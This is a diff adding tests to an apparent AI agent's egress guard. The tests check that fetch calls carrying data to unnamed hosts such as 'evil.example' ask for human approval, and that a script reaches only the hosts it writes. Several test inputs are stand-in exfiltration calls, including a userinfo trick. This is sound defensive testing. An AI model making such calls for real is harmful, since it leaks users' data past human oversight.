@@ -1,17 +1,18 @@
 """Green calls that leave with what other nodes returned ask first, unless a person or the operator named the host."""
 
 from collections.abc import Mapping
+from contextlib import suppress
 from dataclasses import replace
 from typing import Any
 
 import pytest
 
-from agent.ids import NodeId, ToolName
+from agent.ids import Digest, NodeId, ToolName, UserId, thread_id
 from agent.plan.operations import Add, Node, NodeKind
 from agent.plan.outside_text import repeats
-from agent.reading.egress import guarded, hosts_in
+from agent.reading.egress import confined, guarded, hosts_in
 from agent.reading.plan_builder import Placed, PlanBuilder
-from agent.tool import Colour, Egress, Registry, Tool
+from agent.tool import CallContext, Colour, Egress, Registry, Tool, ToolError
 from tests.fakes.plans import REGISTRY
 
 KNOWN = frozenset({"known.example", "10.0.0.7"})
@@ -203,3 +204,50 @@ def test_a_call_that_ran_unasked_before_tells_nobody_anything_new_but_one_that_a
         [operation] = builder.offer(Placed(operation=Add(node=replace(before, id=NodeId("again"))))).admitted
         assert isinstance(operation, Add)
         assert operation.node.require_human_approval is asked
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ("tools.fetch(url='https://known.example/a')", False),
+        ("tools.fetch(url='HTTPS://ASKED.example:8080/' + x)", False),
+        ("tools.fetch(url='https://evil.example/' + x)", True),
+        ("tools.fetch(url='https://known.example@evil.example/' + x)", True),
+        ("tools.fetch(url=f'https://{host}/')", True),
+        ("tools.fetch(url='https:' + '//evil.example/' + x)", False),  # it is not let there
+    ],
+)
+def test_script_asks_first_unless_somebody_named_all_hosts_it_writes(code: str, expected: bool) -> None:
+    assert asks(script(code)) is expected
+
+
+@pytest.mark.parametrize("over", [{"when": "${a}"}, {"when": {"gt": ["${a}", 1]}}, {"for_each": "${a}"}])
+def test_plain_address_on_a_condition_or_for_each_item_asks(over: Mapping[str, Any]) -> None:
+    assert asks(replace(call("https://evil.example/plain"), **over))
+    assert not asks(replace(call("https://known.example/plain"), **over))
+
+
+async def test_script_that_nobody_was_asked_about_reaches_only_hosts_it_writes() -> None:
+    called: list[Any] = []
+
+    async def fetch(_context: CallContext, args: Mapping[str, Any]) -> Any:
+        called.append(args["url"])
+
+    tools = Registry([replace(tool("fetch", Egress(argument="url", known=KNOWN)), call=fetch)])
+    context = CallContext(
+        thread=thread_id("T1", "C1", "1.0"), node=NodeId("n"), author=UserId("U1"), idempotency_key=Digest("d")
+    )
+    written = script("tools.fetch(url='https://asked.example/')")
+    allowed = ["https://known.example/a", "https://asked.example/b"]
+    for node in (written, replace(written, require_human_approval=True)):
+        found = confined(tools, node).find("fetch")
+        assert found is not None
+        for url in (
+            "https://known.example/a",
+            "https://asked.example/b",
+            "https://evil.example/${c}",
+            "//asked.example",
+        ):
+            with suppress(ToolError):
+                await found.call(context, {"url": url})
+    assert called == [*allowed, *allowed, "https://evil.example/${c}", "//asked.example"]
